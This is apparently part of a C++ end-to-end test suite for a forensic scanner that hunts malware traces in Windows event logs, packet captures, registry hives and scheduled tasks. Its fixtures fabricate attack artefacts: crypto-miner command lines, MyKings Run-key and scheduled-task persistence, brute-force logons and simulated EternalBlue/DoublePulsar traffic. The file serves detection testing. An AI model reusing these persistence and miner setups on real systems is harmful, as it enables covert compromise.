    events[1].data = {{"NewProcessName", "C:\\Users\\Public\\x" + std::to_string(i) + ".exe"},
                      {"CommandLine", "x.exe -o stratum+tcp://pool" + std::to_string(i) + ".example:3333"}};
    for (size_t k = 2; k < events.size(); ++k) {
      events[k].event_id = 4624;
      events[k].filetime += k * 10'000'000ull;
      events[k].data = {{"TargetUserName", "user" + std::to_string(k % 7)},
                        {"LogonType", "3"},
                        {"IpAddress", "10.0.0." + std::to_string(i + 1)}};
    }
    const std::string bytes = test::write_evtx(events).bytes;
    test::write_file(dir / "logs" / ("Security-" + std::to_string(i) + ".evtx"), bytes);
    test::write_file(dir / "logs" / ("damaged-" + std::to_string(i) + ".evtx"), bytes.substr(0, 4096 + 700 + i * 31));
  }
  std::string first;
  for (int run = 0; run < 3; ++run) {
    const std::string case_path = (dir / ("case" + std::to_string(run) + ".sqlite")).string();
    auto scan = ms({"scan", "--quiet", "--threads", "2", "--case", case_path, (dir / "logs").string()});
    ASSERT_EQ(scan.exit_code, 1) << scan.err;
    auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
    rep.erase("case");  // its path, times and command line
    ASSERT_FALSE(rep["diagnostics"].empty());
    ASSERT_FALSE(rep["graph"].empty());
    if (run == 0)
      first = rep.dump(1);
    else
      EXPECT_EQ(rep.dump(1), first) << "run " << run;
  }
}

// A large log's MD5 is computed beside its parse, not before it; the case still records every hash of the file and
// of the single-file input it is.
TEST(EndToEnd, ALargeCaptureKeepsAllItsHashes) {
  test::TempDir dir;
  std::string pcap("\xd4\xc3\xb2\xa1\x02\x00\x04\x00", 8);
  pcap += std::string(8, '\0');
  pcap += std::string("\x00\x00\x04\x00\x01\x00\x00\x00", 8);  // snaplen 262144, Ethernet
  const std::string frame(262144, '\x5a');
  for (uint32_t i = 0; pcap.size() < (size_t{65} << 20); ++i) {
    char rec[16] = {};
    std::memcpy(rec, &i, 4);  // seconds
    const uint32_t len = static_cast<uint32_t>(frame.size());
    std::memcpy(rec + 8, &len, 4);
    std::memcpy(rec + 12, &len, 4);
    pcap.append(rec, sizeof rec);
    pcap += frame;
  }
  const fs::path capture = dir / "big.pcap";
  test::write_file(capture, pcap);
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, capture.string()});
  ASSERT_LE(scan.exit_code, 1) << scan.err;
  const FileHashes want = hash_bytes(as_bytes(std::string_view(pcap)));
  auto db = casedb::CaseDb::open(case_path, true);
  ASSERT_TRUE(db);
  auto arts = db->artefacts();
  ASSERT_TRUE(arts);
  ASSERT_EQ(arts->size(), 1u);
  EXPECT_EQ((*arts)[0].kind, "packet_capture");
  EXPECT_EQ((*arts)[0].md5, want.md5);
  EXPECT_EQ((*arts)[0].sha1, want.sha1);
  EXPECT_EQ((*arts)[0].sha256, want.sha256);
  auto ev = db->evidence();
  ASSERT_TRUE(ev);
  ASSERT_EQ(ev->size(), 1u);
  EXPECT_EQ((*ev)[0].md5, want.md5);
  EXPECT_EQ((*ev)[0].sha256, want.sha256);
}

// evtx hunt as Hayabusa users run it: a folder read recursively for logs (by their header, not their name), one
// JSON line per hit with the event's time, channel, event id and computer, the rule's tags, file and fields.
TEST(EndToEnd, HuntReadsFoldersAndDescribesEachHit) {
  test::TempDir dir;
  test::EvtxEvent proc;
  proc.event_id = 4688;
  proc.computer = "WEB01";
  proc.data = {{"NewProcessName", "C:\\Windows\\debug\\x.exe"},
               {"CommandLine", "x.exe -o stratum+tcp://pool.example:3333 --donate-level 1"}};
  test::EvtxEvent svc;
  svc.event_id = 7045;
  svc.provider = "Service Control Manager";
  svc.channel = "System";
  svc.data = {{"ServiceName", "Ias"},
              {"ImagePath", "C:\\Windows\\Fonts\\csrss.exe"},
              {"ServiceType", "user mode service"},
              {"StartType", "auto start"},
              {"AccountName", "LocalSystem"}};
  test::write_file(dir / "collection/host1/winevt/Sec.log", test::write_evtx({proc}).bytes);  // any name
  test::write_file(dir / "collection/host2/System.evtx", test::write_evtx({svc}).bytes);
  test::write_file(dir / "collection/notes.evtx", "not an event log");
  auto hunt = ms({"evtx", "hunt", "--json", (dir / "collection").string()});
  ASSERT_EQ(hunt.exit_code, 1) << hunt.err;
  std::map<std::string, nlohmann::json> by_title;
  for (size_t p = 0, q; (q = hunt.out.find('\n', p)) != std::string::npos; p = q + 1) {
    auto j = nlohmann::json::parse(hunt.out.substr(p, q - p));
    by_title[j["title"].get<std::string>()] = j;
  }
  ASSERT_TRUE(by_title.count("Crypto Miner Command Line")) << hunt.out;
  const auto& miner = by_title["Crypto Miner Command Line"];
  EXPECT_EQ(miner["time"], "2020-01-01T00:00:00.000Z");
  EXPECT_EQ(miner["channel"], "Security");
  EXPECT_EQ(miner["event_id"], "4688");
  EXPECT_EQ(miner["computer"], "WEB01");
  EXPECT_EQ(miner["level"], "high");
  EXPECT_NE(miner["rule_file"].get<std::string>().find("proc_creation_miner_command_line.yml"), std::string::npos);
  EXPECT_NE(std::find(miner["tags"].begin(), miner["tags"].end(), "attack.t1496"), miner["tags"].end());
  EXPECT_EQ(miner["fields"]["CommandLine"], "x.exe -o stratum+tcp://pool.example:3333 --donate-level 1");
  const std::string service_title =
      "Service Ias installed runs from C:\\Windows\\Fonts; a Windows program name (csrss.exe) "
      "outside System32: C:\\Windows\\Fonts\\csrss.exe";
  ASSERT_TRUE(by_title.count(service_title)) << hunt.out;
  EXPECT_EQ(by_title[service_title]["fields"]["ImagePath"], "C:\\Windows\\Fonts\\csrss.exe");
  const auto& tags = by_title[service_title]["tags"];
  EXPECT_NE(std::find(tags.begin(), tags.end(), "attack.persistence"), tags.end()) << tags.dump();
  EXPECT_NE(std::find(tags.begin(), tags.end(), "attack.t1543.003"), tags.end()) << tags.dump();
  EXPECT_EQ(hunt.err.find("notes.evtx"), std::string::npos) << "a file without the header is not read: " << hunt.err;
}

// Correlation across files: the failures are in one log, the success in another (a rotated or exported Security
// log); `evtx hunt`, `scan` and `evtx logons` all see one brute force that worked.
TEST(EndToEnd, SigmaCorrelationAcrossLogsAndLogonSummary) {
  test::TempDir dir;
  constexpr uint64_t kSecond = 10'000'000;
  std::vector<test::EvtxEvent> failures, success(1);
  for (uint64_t i = 0; i < 40; ++i) {
    test::EvtxEvent e;
    e.event_id = 4625;
    e.filetime += i * kSecond;
    e.data = {{"TargetUserName", "administrator"},
              {"LogonType", "3"},
              {"IpAddress", "10.9.8.7"},
              {"Status", "0xc000006d"},
              {"SubStatus", "0xc000006a"}};
    failures.push_back(e);
  }
  success[0].event_id = 4624;
  success[0].filetime += 300 * kSecond;
  success[0].data = {{"TargetUserName", "administrator"}, {"LogonType", "3"}, {"IpAddress", "10.9.8.7"}};
  test::write_file(dir / "logs/Security-old.evtx", test::write_evtx(failures).bytes);
  test::write_file(dir / "logs/Security.evtx", test::write_evtx(success, 41).bytes);
  auto hunt =
      ms({"evtx", "hunt", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
  ASSERT_EQ(hunt.exit_code, 1) << hunt.err;
  nlohmann::json corr;
  for (size_t p = 0, q; (q = hunt.out.find('\n', p)) != std::string::npos; p = q + 1) {
    auto j = nlohmann::json::parse(hunt.out.substr(p, q - p));
    if (j.contains("correlation")) corr = j;
  }
  ASSERT_FALSE(corr.is_null()) << hunt.out;
  EXPECT_EQ(corr["title"], "Brute Force Then Successful Logon From The Same Address");
  EXPECT_EQ(corr["level"], "high");
  // The window that fired, per file (the first ten failures and the success), then the rest counted.
  ASSERT_EQ(corr["evidence"].size(), 3u) << corr.dump();
  EXPECT_EQ(corr["evidence"][0]["events"], "records 1-10 (10 events)");
  EXPECT_EQ(corr["evidence"][1]["events"], "records 41 (1 event)");
  EXPECT_EQ(corr["evidence"][2]["events"], "30 more contributing events, outside that window");
  EXPECT_EQ(hunt.out.find("Failed Network Or RDP Logon"), std::string::npos) << "inputs of a correlation stay quiet";
  auto critical = ms({"evtx", "hunt", "--min-level", "critical", (dir / "logs/Security-old.evtx").string(),
                      (dir / "logs/Security.evtx").string()});
  EXPECT_EQ(critical.exit_code, 0) << critical.out;

  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "logs").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  bool found = false;
  for (const auto& f : rep["findings"])
    found =
        found || (f["engine"] == "sigma" && f["title_en"] == "Brute Force Then Successful Logon From The Same Address");
  EXPECT_TRUE(found) << rep["findings"].dump();

  auto logons = ms(
      {"evtx", "logons", "--json", (dir / "logs/Security-old.evtx").string(), (dir / "logs/Security.evtx").string()});
  ASSERT_EQ(logons.exit_code, 0) << logons.err;
  auto row = nlohmann::json::parse(logons.out.substr(0, logons.out.find('\n')));
  EXPECT_EQ(row["source"], "10.9.8.7");
  EXPECT_EQ(row["failures"], 40);
  EXPECT_EQ(row["successes"], 1);
  EXPECT_EQ(row["last_failure"], "0xc000006a");
}

// A sensor's capture handed over as evidence: `pcap` lists the mining flows, `scan` finds them whatever the file is
// called, and the report carries the pool, the wallet and the packet numbers.
TEST(EndToEnd, CaptureWithMiningTraffic) {
  const fs::path capture = fs::path(MSW_CORPUS_DIR) / "pcap/ndpi/tests/cfgs/default/pcap/mining.pcapng";
  if (!fs::exists(capture)) GTEST_SKIP() << "corpus not present";
  auto pcap = ms({"pcap", "--json", capture.string()});
  ASSERT_EQ(pcap.exit_code, 1) << pcap.err;
  size_t flows = 0, mining = 0;
  for (size_t p = 0, q; (q = pcap.out.find('\n', p)) != std::string::npos; p = q + 1) {
    auto j = nlohmann::json::parse(pcap.out.substr(p, q - p));
    if (j.contains("finding"))
      mining += j["rule_id"] == "heuristic.mining_traffic";
    else
      ++flows;
  }
  EXPECT_EQ(flows, 4u);
  EXPECT_EQ(mining, 4u);
  test::TempDir dir;
  test::write_file(dir / "evidence/sensor-export.bin", test::read_file(capture));
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "evidence").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  bool pool = false;
  for (const auto& f : rep["findings"])
    pool = pool || (f["rule_id"] == "heuristic.mining_traffic" &&
                    f["title_en"] == "Mining traffic: 192.168.2.148 → pool 94.23.199.191:3333 (stratum)" &&
                    f["description_en"].get<std::string>().find("t1fAhZF5aUJdY7CikGULHmeYk7id8qmvbAd.rig4") !=
                        std::string::npos);
  EXPECT_TRUE(pool) << rep["findings"].dump();
}

std::vector<nlohmann::json> json_lines(const std::string& out) {
  std::vector<nlohmann::json> lines;
  for (size_t p = 0, q; (q = out.find('\n', p)) != std::string::npos; p = q + 1)
    lines.push_back(nlohmann::json::parse(out.substr(p, q - p)));
  return lines;
}

// The worm's traffic as a sensor records it: an SMB2 password brute force that ends in a success, EternalBlue with
// DoublePulsar against the next host, and MyKings' 18456 burst against SQL Server. `pcap --format jsonl` writes
// Zeek-style conn records and the findings; `scan` of the capture puts the same findings in the case.
TEST(EndToEnd, WormTrafficOnTheWire) {
  test::CaptureWriter w;
  for (int i = 0; i < 14; ++i) {
    test::TcpConversation c(w, "10.7.0.20", static_cast<uint16_t>(51000 + i), "10.7.0.5", 445);
    c.handshake();
    c.client(test::smb2_negotiate_request());
    c.server(test::smb2_negotiate_response(0x0210));
    c.client(test::smb2_session_setup_request(2, test::ntlm_authenticate("", "administrator")));
    c.server(test::smb2_session_setup_response(2, i == 13 ? 0u : 0xC000006Du));
    c.close();
  }
  test::TcpConversation eb(w, "10.7.0.20", 52000, "10.7.0.6", 445);
  eb.handshake();
  eb.client(test::smb1_negotiate_request({"NT LM 0.12"}));
  eb.server(test::smb1_negotiate_response(0));
  eb.client(test::smb1_nt_trans_request(1, 0x103D0));
  eb.client(test::smb1_trans2_secondary_request(1));
  eb.client(test::smb1_trans2_session_setup_request(65));
  eb.server(test::smb1_trans2_response(81, 0xC0000002));
  for (int i = 0; i < 12; ++i) {
    test::TcpConversation c(w, "198.51.100.77", static_cast<uint16_t>(40000 + i), "10.7.0.9", 1433);
    c.handshake();
    c.client(test::tds_login7("sa", "scanner", "ODBC"));
    c.server(test::tds_login_failed("sa"));
    c.close();
  }
  test::TempDir dir;
  test::write_file(dir / "evidence/sensor.pcapng", w.pcapng());
  auto run = ms({"pcap", "--format", "jsonl", (dir / "evidence/sensor.pcapng").string()});
  ASSERT_EQ(run.exit_code, 1) << run.err;
  std::set<std::string> rules;
  size_t conns = 0;
  for (const auto& j : json_lines(run.out)) {
    if (j["_path"] == "finding") {
      rules.insert(j["rule_id"].get<std::string>());
      continue;
    }
    ASSERT_EQ(j["_path"], "conn");
    ++conns;
    for (auto key : {"ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "conn_state", "history",
                     "orig_pkts", "orig_ip_bytes", "resp_pkts", "resp_ip_bytes", "duration"})
      EXPECT_TRUE(j.contains(key)) << key << " in " << j.dump();
    if (j["id.resp_p"] == 445 && j["id.orig_p"] == 51000) {
      EXPECT_EQ(j["service"], "smb");
      EXPECT_EQ(j["conn_state"], "SF");
      EXPECT_EQ(j["SmbDialect"], "2.1");
      EXPECT_EQ(j["LoginAccounts"], "administrator");
    }
  }
  EXPECT_EQ(conns, 27u);
  EXPECT_EQ(rules, (std::set<std::string>{"heuristic.network_brute_force", "heuristic.eternalblue",
                                          "heuristic.doublepulsar", "heuristic.smb1_in_use"}));
  auto table = ms({"pcap", (dir / "evidence/sensor.pcapng").string()});
  EXPECT_NE(table.out.find("[critical] 13 failed SMB logons from 10.7.0.20 to 10.7.0.5, then a successful logon as "
                           "administrator"),
            std::string::npos)
      << table.out;
  EXPECT_NE(table.out.find("[high] 12 failed MSSQL logons from 198.51.100.77 to 10.7.0.9 (password guessing)"),
            std::string::npos)
      << table.out;

  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "evidence").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  std::set<std::string> in_case;
  for (const auto& f : rep["findings"]) in_case.insert(f["rule_id"].get<std::string>());
  for (const auto& r : rules) EXPECT_TRUE(in_case.count(r)) << r;
}

// A live capture on the loopback interface: a stand-in miner logs in to a stand-in pool while `pcap --interface lo`
// runs; the capture is written to a new file and the login is found in it. Needs CAP_NET_RAW; skipped without.
TEST(EndToEnd, LiveCaptureOnLoopback) {
  test::TempDir dir;
  const int server = ::socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(server, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(server, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  socklen_t len = sizeof addr;
  ::getsockname(server, reinterpret_cast<sockaddr*>(&addr), &len);
  ::listen(server, 4);
  const int port = ntohs(addr.sin_port);
  std::thread traffic([&] {
    std::this_thread::sleep_for(std::chrono::milliseconds(1500));  // the capture is running by then
    const int c = ::socket(AF_INET, SOCK_STREAM, 0);
    if (::connect(c, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0) {
      const std::string login = R"({"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4)" +
                                std::string(94, 'B') +
                                R"(","pass":"x","agent":"XMRig/6.21.0","algo":["rx/0"]}})"
                                "\n";
      (void)!::write(c, login.data(), login.size());
      const int s = ::accept(server, nullptr, nullptr);
      char buf[4096];
      (void)!::read(s, buf, sizeof buf);
      ::close(s);
    }
    ::close(c);
  });
  const fs::path out = dir / "live.pcap";
  auto run = ms({"pcap", "--interface", "lo", "--filter", "tcp port " + std::to_string(port), "--duration", "4",
                 "--write", out.string(), "--format", "jsonl"});
  traffic.join();
  ::close(server);
  if (run.err.find("cannot capture") != std::string::npos || run.err.find("without libpcap") != std::string::npos)
    GTEST_SKIP() << run.err;
  ASSERT_EQ(run.exit_code, 1) << run.err;
  ASSERT_TRUE(fs::exists(out));
  bool mining = false;
  for (const auto& j : json_lines(run.out))
    mining =
        mining || (j["_path"] == "conn" && j.value("MiningProtocol", "") == "monero-stratum" && j["id.resp_p"] == port);
  EXPECT_TRUE(mining) << run.out;
  // The capture is evidence: a second run refuses to overwrite it.
  auto again = ms({"pcap", "--interface", "lo", "--duration", "1", "--write", out.string()});
  EXPECT_NE(again.exit_code, 0);
  EXPECT_NE(again.err.find("must not exist"), std::string::npos) << again.err;
}

// A KAPE-style copy of a Windows volume with a user's hive: the Run value MyKings leaves (a program in
// C:\Windows\debug) is found by `scan`, with the hive's path and the key's write time as evidence.
TEST(EndToEnd, WindowsHiveInATriageFolder) {
  test::RegKeySpec run("Run");
  run.values = {test::RegValueSpec{"Windows Update", 1, test::reg_sz("C:\\Windows\\debug\\lsma12.exe -s")}};
  test::RegKeySpec cv("CurrentVersion");
  cv.subkeys = {run};
  test::RegKeySpec windows("Windows");
  windows.subkeys = {cv};
  test::RegKeySpec microsoft("Microsoft");
  microsoft.subkeys = {windows};
  test::RegKeySpec software("Software");
  software.subkeys = {microsoft};
  test::RegKeySpec root("ROOT");
  root.subkeys = {software, test::RegKeySpec("Environment")};
  test::TempDir dir;
  test::write_file(dir / "triage/C/Users/admin/NTUSER.DAT", test::write_hive(root));
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "triage").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  bool found = false;
  for (const auto& f : rep["findings"])
    if (f["rule_id"] == "heuristic.registry_autostart_suspicious") {
      found = true;
      const std::string ev = f.dump();
      EXPECT_NE(ev.find("HKU\\\\admin\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Windows Update"),
                std::string::npos)
          << ev;
      EXPECT_NE(ev.find("NTUSER.DAT"), std::string::npos) << ev;
    }
  EXPECT_TRUE(found) << rep["findings"].dump();
}

// MyKings' scheduled task in a copy of C:\Windows\System32\Tasks (UTF-16, as Windows writes it): the action is
// flagged and the task's name is attributed to MyKings by the knowledge base.
TEST(EndToEnd, MyKingsTaskInATriageFolder) {
  const std::string xml = R"(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2019-03-04T03:12:00</Date><URI>\Mysa1</URI></RegistrationInfo>
  <Triggers><BootTrigger><Enabled>true</Enabled></BootTrigger></Triggers>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions><Exec><Command>rundll32.exe</Command><Arguments>C:\Windows\debug\item.dat,ServiceMain aaaa</Arguments></Exec></Actions>
</Task>)";
  std::string utf16 = "\xff\xfe";
  for (char c : xml) {
    utf16 += c;
    utf16 += '\0';
  }
  test::TempDir dir;
  test::write_file(dir / "triage/C/Windows/System32/Tasks/Mysa1", utf16);
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "triage").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  auto rep = nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out);
  bool action = false, family = false;
  for (const auto& f : rep["findings"]) {
    action = action || f["rule_id"] == "heuristic.task_suspicious_action";
    family = family || f.dump().find("MyKings") != std::string::npos;
  }
  EXPECT_TRUE(action) << rep["findings"].dump();
  EXPECT_TRUE(family) << rep["findings"].dump();
}

// An Amcache.hve that recorded a MyKings bootkit installer (a SHA-1 from the knowledge base): the responder's
// "compare SHA-1s with the vendor report" step, done by `scan`.
TEST(EndToEnd, AmcacheSha1KnownToTheKnowledgeBase) {
  test::RegKeySpec entry("0000aaaa");
  entry.values = {test::RegValueSpec{"FileId", 1, test::reg_sz("000013dd73396e35ab46a1618398b0323015c5dca944")},
                  test::RegValueSpec{"LowerCaseLongPath", 1, test::reg_sz("c:\\windows\\temp\\upsupx2.exe")}};
  test::RegKeySpec inventory("InventoryApplicationFile");
  inventory.subkeys = {entry};
  test::RegKeySpec root_key("Root");
  root_key.subkeys = {inventory};
  test::RegKeySpec hive_root("{11517B7C-E79D-4e20-961B-75A811715ADD}");
  hive_root.subkeys = {root_key};
  test::TempDir dir;
  test::write_file(dir / "triage/C/Windows/AppCompat/Programs/Amcache.hve", test::write_hive(hive_root));
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "triage").string()});
  ASSERT_EQ(scan.exit_code, 1) << scan.err;
  const std::string findings =
      nlohmann::json::parse(ms({"report", case_path, "--format", "json"}).out)["findings"].dump();
  EXPECT_NE(findings.find("13dd73396e35ab46a1618398b0323015c5dca944"), std::string::npos) << findings;
  EXPECT_NE(findings.find("MyKings"), std::string::npos) << findings;
}

}  // namespace
}  // namespace msw
